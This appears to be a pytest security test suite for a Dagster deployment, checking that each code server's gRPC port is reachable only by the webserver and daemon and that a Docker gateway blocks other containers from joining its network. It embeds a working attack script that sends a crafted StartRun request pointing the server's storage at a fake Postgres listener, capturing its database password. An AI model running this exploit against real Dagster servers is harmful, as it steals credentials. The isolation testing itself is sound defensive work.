"""A code server answers webserver and daemon, and nobody else."""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from docker_gateway_caller import VERSION, caller, copy_of
from harness import QUIET, Stack, until
from runs import launch
from standby_pool import pool_is_full

# Asks a code server to start a run, with an instance of the caller's own: its storage is a listener
# here, and its password whatever the server's environment has. What the listener got is printed.
_ATTACK = """
import json, os, socket, struct, sys, threading

from dagster import DagsterInstance
from dagster._core.instance.ref import InstanceRef
from dagster._core.remote_origin import (
    GrpcServerCodeLocationOrigin, RemoteJobOrigin, RemoteRepositoryOrigin,
)
from dagster._grpc.client import DagsterGrpcClient
from dagster._grpc.__generated__ import dagster_api_pb2
from dagster._grpc.types import ExecuteExternalJobArgs
from dagster._serdes import serialize_value

job, *targets = sys.argv[1:]
got = []

def postgres(listener):
    while True:
        connection, _ = listener.accept()
        with connection:
            while True:
                size, code = struct.unpack("!II", connection.recv(8, socket.MSG_WAITALL))
                if code != 80877103:
                    break
                connection.sendall(b"N")
            connection.recv(size - 8, socket.MSG_WAITALL)
            connection.sendall(b"R" + struct.pack("!II", 8, 3))
            kind, size = struct.unpack("!cI", connection.recv(5, socket.MSG_WAITALL))
            got.append(connection.recv(size - 4, socket.MSG_WAITALL).rstrip(b"\\0").decode())

listener = socket.create_server(("0.0.0.0", 0))
threading.Thread(target=postgres, args=(listener,), daemon=True).start()

def attack(host):
    got.clear()
    try:
        with socket.create_connection((host, 4000), timeout=3) as connection:
            here = connection.getsockname()[0]
    except OSError as error:
        return f"not reached: {error}"
    storage = {"postgres_db": {
        "hostname": here, "port": listener.getsockname()[1], "db_name": "x", "username": "x",
        "password": {"env": "DAGSTER_POSTGRES_PASSWORD"},
    }}
    os.makedirs("/tmp/attack", exist_ok=True)
    instance = InstanceRef.from_dir("/tmp/attack", overrides={"storage": {"postgres": storage}})
    repository = RemoteRepositoryOrigin(
        GrpcServerCodeLocationOrigin(host=host, port=4000, location_name="x"), "__repository__"
    )
    order = ExecuteExternalJobArgs(
        job_origin=RemoteJobOrigin(repository, job), run_id="a-run", instance_ref=instance
    )
    DagsterGrpcClient(host=host, port=4000)._query(
        "StartRun", dagster_api_pb2.StartRunRequest, timeout=60,
        serialized_execute_run_args=serialize_value(order),
    )
    return got[0] if got else "no password"

print(json.dumps({host: attack(host) for host in targets}))
"""

# Addresses at which something listens on port 4000; gRPC maps those of IPv4 into IPv6.
_LISTENING = """
import socket, struct
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(table).readlines()[1:]:
        address, port = line.split()[1].split(":")
        if line.split()[3] == "0A" and int(port, 16) == 4000:
            words = [int(address[at : at + 8], 16) for at in range(0, len(address), 8)]
            mapped = len(words) == 1 or words[:3] == [0, 0, 0xFFFF0000]
            print(socket.inet_ntoa(struct.pack("<I", words[-1])) if mapped else address)
"""


def rpc_network(stack: Stack, location: str) -> str:
    """The name of a location's RPC network."""
    return f"{stack.project}_rpc_{location}"


def rpc_address(stack: Stack, location: str) -> str:
    """Where a location's server listens."""
    networks = stack.inspect(stack.container(location))["NetworkSettings"]["Networks"]
    return str(networks[rpc_network(stack, location)]["IPAddress"])


def attack(stack: Stack, container: str, job: str, *targets: str) -> dict[str, str]:
    """What came of the attack from inside a container, by target."""
    command = ("docker", "exec", container, "entrypoint", "python", "-c", _ATTACK, job, *targets)
    said = stack.run(*command)
    answers: dict[str, str] = json.loads(said.splitlines()[-1])
    return answers


def locations_loaded(stack: Stack) -> None:
    """The webserver has loaded every code location."""
    asked = "{ workspaceOrError { ... on Workspace { locationEntries { locationOrLoadError {"
    entries = stack.ask(f"{asked} __typename }} }} }} }} }}")["workspaceOrError"]["locationEntries"]
    kinds = {entry["locationOrLoadError"]["__typename"] for entry in entries}
    assert kinds == {"RepositoryLocation"}


@pytest.fixture(scope="module")
def run_container(stack: Stack) -> Iterator[str]:
    """Id of a container in which a run of `scenarios` runs."""
    run = launch(stack, "scenarios", "hanging_job")
    run.wait("STARTED")
    yield run.container["Id"]
    run.terminate()
    run.wait("CANCELED")


def everywhere(stack: Stack, *locations: str) -> list[str]:
    """The names and the addresses of code servers."""
    return [*locations, *(rpc_address(stack, location) for location in locations)]


def test_the_attack_is_one(stack: Stack) -> None:
    """From where calls are allowed, it brings a password."""
    password = stack.compose("exec", "-T", "analytics", "cat", "/run/secrets/analytics_password")
    daemon = stack.container("daemon")
    answers = attack(stack, daemon, "regenerate_analytics_job", "analytics")
    assert answers == {"analytics": password}


@pytest.mark.parametrize("attacker", ["elt", "analytics"])
def test_no_code_server_reaches_another(stack: Stack, attacker: str) -> None:
    others = ["elt", "analytics", "scenarios"]
    others.remove(attacker)
    answers = attack(stack, stack.container(attacker), "tick_job", *everywhere(stack, *others))
    assert len(answers) == 4
    assert all(answer.startswith("not reached") for answer in answers.values()), answers


def test_no_run_reaches_one_be_it_its_own(stack: Stack, run_container: str) -> None:
    targets = everywhere(stack, "elt", "analytics", "scenarios")
    answers = attack(stack, run_container, "tick_job", *targets)
    assert len(answers) == 6
    assert all(answer.startswith("not reached") for answer in answers.values()), answers


@pytest.mark.skipif(QUIET, reason="this stack has no standby workers")
def test_no_standby_worker_reaches_one_be_it_its_own(stack: Stack) -> None:
    worker = pool_is_full(stack)[0]
    answers = attack(stack, worker, "tick_job", *everywhere(stack, "elt", "ready"))
    assert len(answers) == 4
    assert all(answer.startswith("not reached") for answer in answers.values()), answers


@pytest.mark.parametrize("location", ["elt", "analytics", "scenarios"])
def test_it_listens_in_its_own_network_which_the_control_plane_alone_joins(
    stack: Stack, location: str
) -> None:
    command = ("exec", "-T", location, "python", "-c", _LISTENING)
    assert stack.compose(*command).split() == [rpc_address(stack, location)]
    network = json.loads(stack.run("docker", "network", "inspect", rpc_network(stack, location)))[0]
    assert network["Internal"]
    members = {stack.container(name) for name in (location, "webserver", "daemon", "workspace")}
    assert set(network["Containers"]) == members


def test_the_gateway_lets_no_run_join(stack: Stack, run_container: str) -> None:
    network = rpc_network(stack, "scenarios")
    name = f"{stack.project}-run-{uuid.uuid4()}"
    body = copy_of(stack, "scenarios", name.removeprefix(f"{stack.project}-run-"))
    with caller(stack, "daemon") as daemon:
        body["HostConfig"]["NetworkMode"] = network
        made = daemon.ask("POST", f"{VERSION}/containers/create?name={name}", body)
        assert made.status == 403, made
        assert made.reason
        connect = f"{VERSION}/networks/{network}/connect"
        assert daemon.ask("POST", connect, {"Container": run_container}).status == 403


def test_the_one_that_joins_can_do_no_more(stack: Stack, run_container: str) -> None:
    elt, webserver = stack.container("elt"), stack.container("webserver")
    webserver = stack.inspect(webserver)["Id"]

    def connect(network: str, container: str, **more: Any) -> int:
        answer = joiner.ask(
            "POST", f"{VERSION}/networks/{network}/connect", {"Container": container} | more
        )
        return answer.status

    with caller(stack, "rpc_networks") as joiner:
        network = rpc_network(stack, "elt")
        assert connect(network, run_container) == 403
        assert connect(network, stack.inspect(elt)["Id"]) == 403
        assert connect(network, webserver, EndpointConfig={"Aliases": ["elt"]}) == 403
        for other in ("core", "outside", "objects", "rpc_none"):
            assert connect(f"{stack.project}_{other}", webserver) == 403
        # It is in there already: the engine says so, not the gateway.
        assert connect(network, webserver) in {403, 409}
        for method, path in {
            ("POST", f"/networks/{network}/disconnect"),
            ("DELETE", f"/networks/{network}"),
            ("POST", "/containers/create"),
            ("POST", f"/containers/{run_container}/stop"),
            ("GET", f"/containers/{webserver}/json"),
        }:
            assert joiner.ask(method, f"{VERSION}{path}", {"Container": webserver}).status == 403


@pytest.mark.long
def test_a_webserver_that_is_made_anew_is_joined_while_the_daemon_is_away(stack: Stack) -> None:
    stack.compose("stop", "daemon")
    try:
        stack.compose("rm", "--stop", "--force", "webserver")
        stack.compose("up", "--detach", "--wait", "webserver")
        until(lambda: locations_loaded(stack), seconds=60)
    finally:
        stack.compose("start", "daemon")
    launch(stack, "scenarios", "tick_job").wait()


@pytest.mark.long
def test_plain_compose_leaves_what_was_joined_alone(stack: Stack) -> None:
    names = ("webserver", "daemon", "workspace", "rpc_networks")
    before = {name: stack.inspect(stack.container(name)) for name in names}
    stack.compose("up", "--detach", "--wait")
    for name, was in before.items():
        now = stack.inspect(stack.container(name))
        assert (now["Id"], now["State"]["StartedAt"]) == (was["Id"], was["State"]["StartedAt"])
        assert (
            now["NetworkSettings"]["Networks"].keys() == was["NetworkSettings"]["Networks"].keys()
        )
